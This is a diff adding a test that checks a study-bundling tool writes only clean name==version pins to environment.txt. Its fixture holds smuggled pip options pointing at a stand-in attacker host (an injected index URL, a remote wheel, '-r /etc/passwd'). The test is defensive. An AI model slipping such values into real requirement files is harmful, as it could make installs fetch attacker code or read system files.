@@ -69,6 +69,24 @@ def test_a_bundle_is_a_whole_study_with_the_same_report(study: Path, tmp_path: P
     assert tables[0]
 
 
+def test_pip_is_told_names_and_versions_and_nothing_else(study: Path, tmp_path: Path) -> None:
+    forged = {
+        "torch": "2.11.0+cu128",
+        "numpy": "2.0\n--index-url http://evil.example/simple\nevil-package",
+        "--extra-index-url http://evil.example/ # ": "1",
+        "evil @ http://evil.example/evil.whl # ": "1",
+        "-r": "/etc/passwd",
+        "scipy": "1.0 --hash=sha256:0",
+        "pandas": "2.*",
+    }
+    edit(study / "study.json", lambda values: values.update(versions=forged))
+    assert main([str(study), str(tmp_path / "one.tar")]) == 0
+    lines = (unpacked(tmp_path / "one.tar", tmp_path / "there") / "environment.txt").read_text().splitlines()
+    assert [line for line in lines if not line.startswith("# ")] == ["torch==2.11.0+cu128"]
+    assert "# left out: numpy 2.0 --index-url http://evil.example/simple evil-package" in lines
+    assert len([line for line in lines if line.startswith("# left out: ")]) == len(forged) - 1
+
+
 def test_measurements_of_efficiency_are_packed(study: Path, tmp_path: Path) -> None:
     measure(study, {})
     measured = open_study(str(study)).measurements
